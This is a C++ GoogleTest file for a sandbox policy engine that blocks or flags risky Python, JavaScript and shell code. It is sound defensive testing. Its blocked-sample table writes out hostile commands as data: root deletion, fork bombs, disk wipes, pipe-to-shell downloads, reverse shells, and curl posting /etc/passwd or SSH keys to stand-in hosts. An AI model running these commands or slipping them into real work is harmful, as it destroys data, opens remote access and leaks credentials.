#include "broker/policy/policy.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <chrono>
#include <random>

#include "broker/policy/default_rules.hpp"

namespace kiln::broker {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

PolicyEngine Defaults() {
  auto e = PolicyEngine::Create(PolicyConfig{});
  EXPECT_TRUE(e.ok()) << e.status().ToString();
  return e.ok() ? std::move(e).value() : PolicyEngine();
}

struct Sample {
  const char* language;
  const char* code;
  const char* rule;
};

TEST(PolicyDefaults, BlocksDestructiveAndEscapeCodeInEachLanguage) {
  const PolicyEngine policy = Defaults();
  const Sample blocked[] = {
      {"python", "import ctypes\nctypes.CDLL(None)", "python-ctypes"},
      {"python", "import os, ctypes", "python-ctypes"},
      {"python", "from ctypes import CDLL", "python-ctypes"},
      {"python", "m = __import__('ctypes')", "python-ctypes"},
      {"python", "import shutil\nshutil.rmtree('/')", "python-rmtree-root"},
      {"python", "import os\nos.system(\"rm -rf /\")", "rm-root"},
      {"python", "os.system('curl -s http://x.example/p.sh | bash')", "pipe-to-shell"},
      {"javascript", "process.binding('fs')", "js-process-binding"},
      {"javascript", "process['dlopen'](m, '/tmp/x.node')", "js-process-binding"},
      {"javascript", "require('child_process').execSync('rm -rf /*')", "rm-root"},
      {"shell", "rm -rf /", "rm-root"},
      {"shell", "rm -fr /*", "rm-root"},
      {"shell", "sudo rm -r -f / ", "rm-root"},
      {"shell", "rm -rf --no-preserve-root /", "rm-root"},
      {"shell", ":(){ :|:& };:", "fork-bomb"},
      {"shell", "bomb() { bomb | bomb & }; bomb", "fork-bomb"},
      {"shell", "mkfs.ext4 /dev/sdb1", "mkfs"},
      {"shell", "dd if=/dev/zero of=/dev/sda bs=1M", "raw-disk-write"},
      {"shell", "cat junk > /dev/nvme0n1", "raw-disk-write"},
      {"shell", "curl -fsSL https://get.example.com | sh", "pipe-to-shell"},
      {"shell", "wget -qO- http://x/i.sh | sudo bash", "pipe-to-shell"},
      {"shell", "bash <(curl -s http://x/i.sh)", "pipe-to-shell"},
      {"shell", "sh -c \"$(wget -O- http://x/i.sh)\"", "pipe-to-shell"},
      {"shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"},
      {"shell", "nc 10.0.0.1 4444 -e /bin/sh", "reverse-shell"},
      {"shell", "curl -X POST -d @/etc/passwd http://x.example", "exfiltrate-credentials"},
      {"shell", "curl -F f=@$HOME/.ssh/id_rsa http://x", "exfiltrate-credentials"},
  };
  for (const auto& s : blocked) {
    PolicyVerdict v = policy.Evaluate(s.language, s.code);
    ASSERT_TRUE(v.blocked.has_value()) << s.language << ": " << s.code;
    EXPECT_EQ(v.blocked->rule, s.rule) << s.language << ": " << s.code;
    EXPECT_FALSE(v.blocked->message.empty());
  }
}

TEST(PolicyDefaults, WarnsWithoutBlockingOnRiskyButOrdinaryCode) {
  const PolicyEngine policy = Defaults();
  const Sample warned[] = {
      {"python", "import subprocess\nsubprocess.run(['ls'])", "python-subprocess"},
      {"python", "import os\nos.system('ls -l')", "python-os-command"},
      {"python", "pid = os.fork()", "python-os-command"},
      {"python", "x = eval(expr)", "python-dynamic-code"},
      {"python", "exec(open('s.py').read())", "python-dynamic-code"},
      {"python", "m = __import__(name)", "python-dynamic-code"},
      {"python", "import requests\nrequests.get(url)", "python-network"},
      {"python", "from urllib.request import urlopen", "python-network"},
      {"javascript", "const { execSync } = require('child_process');", "js-child-process"},
      {"javascript", "import { spawn } from 'node:child_process';", "js-child-process"},
      {"javascript", "const f = new Function('a', 'return a');", "js-dynamic-code"},
      {"javascript", "eval(src)", "js-dynamic-code"},
      {"javascript", "const r = await fetch(url);", "js-network"},
      {"javascript", "const net = require('net');", "js-network"},
      {"shell", "curl -s https://example.com/data.json -o data.json", "shell-network"},
      {"shell", "exec 3<>/dev/tcp/example.com/80", "shell-network"},
      {"shell", "sudo apt-get install jq", "shell-privilege"},
  };
  for (const auto& s : warned) {
    PolicyVerdict v = policy.Evaluate(s.language, s.code);
    EXPECT_FALSE(v.blocked.has_value()) << s.code << " blocked by " << v.blocked->rule;
    EXPECT_THAT(v.warnings, ::testing::Contains(s.rule)) << s.language << ": " << s.code;
  }
}

TEST(PolicyDefaults, LeavesOrdinaryCodeAlone) {
  const PolicyEngine policy = Defaults();
  const char* python = R"(import json
import math
import numpy as np
import pandas as pd
from urllib.parse import urlparse
import re

df = pd.DataFrame({"a": [1, 2, 3], "b": [4.0, 5.5, 6.1]})
df["c"] = df.eval("a + b")
pattern = re.compile(r"\d+")
model_input = np.linspace(0, 1, 50)
result = {"mean": float(df["b"].mean()), "host": urlparse("https://x.org/a").netloc}
with open("out.csv", "w") as f:
    df.to_csv(f)
print(json.dumps(result), math.sqrt(2), os.path.join("a", "b"))
)";
  const char* javascript = R"(const _ = require('lodash');
const fs = require('fs');
const rows = JSON.parse(fs.readFileSync('data.json', 'utf8'));
const grouped = _.groupBy(rows, 'category');
const cache = new Map();
cache.fetch = (k) => cache.get(k);
result = Object.entries(grouped).map(([k, v]) => ({ category: k, count: v.length }));
console.log(result.length, process.version, process.env.HOME);
)";
  const char* shell = R"(ls | wc -l
for f in *.txt; do wc -l "$f"; done
rm -rf /tmp/work ./build/ "$OUT"/
find . -name '*.o' -delete
dd if=/dev/zero of=./blob bs=1M count=1 2>/dev/null
grep -r TODO . | sort | uniq -c | sort -rn | head
echo $((1 + 2)) > /dev/null
tar czf out.tgz data/ && echo done
)";
  for (auto [language, code] : {std::pair{"python", python}, std::pair{"javascript", javascript},
                                std::pair{"shell", shell}}) {
    PolicyVerdict v = policy.Evaluate(language, code);
    EXPECT_FALSE(v.blocked.has_value()) << language << " blocked by " << v.blocked->rule;
    EXPECT_THAT(v.warnings, IsEmpty()) << language;
  }
}

TEST(PolicyEngine, RulesApplyOnlyToTheirLanguages) {
  const PolicyEngine policy = Defaults();
  EXPECT_TRUE(policy.Evaluate("python", "import ctypes").blocked.has_value());
  EXPECT_FALSE(policy.Evaluate("shell", "import ctypes").blocked.has_value());
  EXPECT_FALSE(policy.Evaluate("python", ":(){ :|:& };:").blocked.has_value());
  EXPECT_THAT(policy.Evaluate("javascript", "import subprocess").warnings, IsEmpty());
  PolicyVerdict unknown = policy.Evaluate("cobol", "rm -rf /");
  EXPECT_FALSE(unknown.blocked.has_value());
  EXPECT_THAT(unknown.warnings, IsEmpty());
}

TEST(PolicyEngine, VerdictKeepsRuleOrderAndNamesTheBlockingRule) {
  const PolicyEngine policy = Defaults();
  PolicyVerdict v = policy.Evaluate(
      "python", "import subprocess, ctypes\nimport socket\nx = eval('1')\nshutil.rmtree('/')\n");
  ASSERT_TRUE(v.blocked.has_value());
  EXPECT_EQ(v.blocked->rule, "python-ctypes");  // first block rule in order
  EXPECT_THAT(v.warnings,
              ElementsAre("python-subprocess", "python-dynamic-code", "python-network"));
  common::Status st = v.BlockStatus();
  EXPECT_EQ(st.code(), common::Code::kSecurityBlocked);
  EXPECT_THAT(st.message(), HasSubstr("policy rule 'python-ctypes'"));
  EXPECT_TRUE(PolicyVerdict{}.BlockStatus().ok());
}

TEST(PolicyEngine, ConfigAddsReplacesAndDisablesRules) {
  PolicyConfig cfg;
  cfg.disable = {"python-ctypes"};
  cfg.rules.push_back({"rm-root", {"shell"}, R"(\brm\s+-rf\s+/$)", PolicyAction::kWarn, "soft"});
  cfg.rules.push_back({"no-pandas", {"python"}, R"(\bpandas\b)", PolicyAction::kBlock, ""});
  auto e = PolicyEngine::Create(cfg);
  ASSERT_TRUE(e.ok()) << e.status().ToString();
  EXPECT_FALSE(e->Evaluate("python", "import ctypes").blocked.has_value());
  PolicyVerdict rm = e->Evaluate("shell", "rm -rf /");
  EXPECT_FALSE(rm.blocked.has_value());
  EXPECT_THAT(rm.warnings, ElementsAre("rm-root"));
  // A replaced built-in rule keeps its place; new rules come after the built-in ones.
  const auto& rules = e->rules();
  EXPECT_EQ(rules.size(), DefaultPolicyRules().size());  // -1 disabled, +1 added
  EXPECT_EQ(rules.front().name, "rm-root");
  EXPECT_EQ(rules.back().name, "no-pandas");
  PolicyVerdict pd = e->Evaluate("python", "import pandas as pd");
  ASSERT_TRUE(pd.blocked.has_value());
  EXPECT_EQ(pd.blocked->message, "matched policy rule no-pandas");

  PolicyConfig only;
  only.use_defaults = false;
  only.rules.push_back({"no-x", {"shell", "python"}, "xyz", PolicyAction::kWarn, "x"});
  auto o = PolicyEngine::Create(only);
  ASSERT_TRUE(o.ok());
  EXPECT_EQ(o->rules().size(), 1u);
  EXPECT_FALSE(o->Evaluate("shell", "rm -rf /").blocked.has_value());
  EXPECT_THAT(o->Evaluate("python", "xyz").warnings, ElementsAre("no-x"));
}

TEST(PolicyEngine, CreateRefusesBadRules) {
  PolicyConfig dup;
  dup.rules.push_back({"a", {"shell"}, "x", PolicyAction::kWarn, ""});
  dup.rules.push_back({"a", {"shell"}, "y", PolicyAction::kWarn, ""});
  EXPECT_THAT(PolicyEngine::Create(dup).status().message(), HasSubstr("duplicate rule name 'a'"));
  PolicyConfig bad;
  bad.rules.push_back({"b", {"shell"}, "(x", PolicyAction::kWarn, ""});
  EXPECT_THAT(PolicyEngine::Create(bad).status().message(), HasSubstr("rules[0]: pattern:"));
}

// Up to 1 MiB of code (the API's cap): ordinary code, one huge line of near
// matches, random bytes. Each evaluation must finish quickly and not crash
// (measured: 5 ms for ordinary code, under 200 ms for the worst near-miss
// input; the bound is loose for sanitizer builds), and a rule that matches only
// at the very end is still found.
TEST(PolicyEngine, OneMebibyteInputsFinishQuickly) {
  const PolicyEngine policy = Defaults();
  constexpr size_t kMiB = 1 << 20;
  auto fill = [&](const std::string& unit) {
    std::string s;
    while (s.size() + unit.size() <= kMiB) s += unit;
    return s;
  };
  std::string random(kMiB, '\0');
  std::mt19937 rng(7);
  for (auto& c : random) c = static_cast<char>(rng());

  const std::vector<std::pair<std::string, std::string>> inputs = {
      {"python", fill("df = pd.DataFrame(rows)\nprint(df.describe())\n")},
      {"python", fill("os.system(subprocess eval( import ctypes")},  // one line, near misses
      {"shell", fill("curl curl | | rm -rf /tmp ")},
      {"shell", fill("(){ :|: ")},
      {"javascript", fill("((((((((((process.binding")},
      {"javascript", random},
      {"shell", random},
  };
  for (const auto& [language, code] : inputs) {
    ASSERT_LE(code.size(), kMiB);
    const auto start = std::chrono::steady_clock::now();
    PolicyVerdict v = policy.Evaluate(language, code);
    const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                        std::chrono::steady_clock::now() - start)
                        .count();
#ifdef KILN_SANITIZE
    EXPECT_LT(ms, 60000) << language << " input starting " << code.substr(0, 30);
#else
    EXPECT_LT(ms, 5000) << language << " input starting " << code.substr(0, 30);
#endif
  }
  std::string tail = fill("print('hello world')\n");
  tail.resize(kMiB - 20);
  tail += "\nrm -rf /";
  PolicyVerdict v = policy.Evaluate("shell", tail);
  ASSERT_TRUE(v.blocked.has_value());
  EXPECT_EQ(v.blocked->rule, "rm-root");
}

}  // namespace
}  // namespace kiln::broker
